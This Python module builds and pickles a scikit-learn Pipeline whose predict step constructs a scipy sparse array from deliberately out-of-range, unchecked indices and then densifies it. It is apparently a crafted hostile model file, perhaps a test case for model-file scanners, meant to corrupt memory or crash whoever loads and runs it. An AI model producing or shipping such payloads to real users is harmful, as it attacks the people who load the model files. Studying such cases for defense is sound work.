"""A sparse matrix is made while predicting, from index arrays that nothing has checked."""

from __future__ import annotations

import operator
import pickle
from functools import partial
from typing import Any

import numpy as np
import scipy.sparse as sp
from sklearn.pipeline import Pipeline
from sklearn.preprocessing import FunctionTransformer


def build(canary: str) -> bytes:
    del canary
    parts = np.ones(3), np.array([10**9, 5, -(10**9)], "i4"), np.array([0, 3], "i4")
    functions: list[Any] = [
        np.shape,
        partial(sp.csr_array, parts),
        operator.methodcaller("toarray"),
    ]
    steps = [(str(n), FunctionTransformer(function)) for n, function in enumerate(functions)]
    return pickle.dumps(Pipeline(steps), 4)
